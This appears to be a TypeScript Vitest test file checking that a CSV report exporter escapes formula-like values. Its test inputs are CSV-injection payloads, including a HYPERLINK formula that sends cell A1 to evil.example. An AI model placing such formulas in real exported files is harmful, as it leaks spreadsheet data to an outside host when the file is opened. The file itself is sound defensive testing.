/** @source https://owasp.org/www-community/attacks/CSV_Injection */
import { expect, test } from 'vitest'
import { csvLines } from '../insurance/report.ts'

const cells = (message: string): string =>
  csvLines({
    file: 'a.xml',
    dossier: 'LK-1',
    findings: [
      {
        severity: 'warning',
        rule: 'R',
        table: 'XML1',
        row: null,
        field: 'HO_TEN',
        message,
        wayOut: '',
        source: '',
      } as never,
    ],
  })

test.each(['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'])(
  '%j becomes text in a table that is opened with Excel',
  (formula) => {
    const line = cells(formula)
    const quoted = /[",\r\n]/.test(formula) ? `"'${formula.replaceAll('"', '""')}"` : `'${formula}`
    expect(line).toContain(`,${quoted},`)
  },
)

test('what is no formula stays as it is', () => {
  for (const text of ['Nguyễn Văn A', 'a=b', '1-2', 'thiếu @']) expect(cells(text)).toContain(`,${text},`)
})
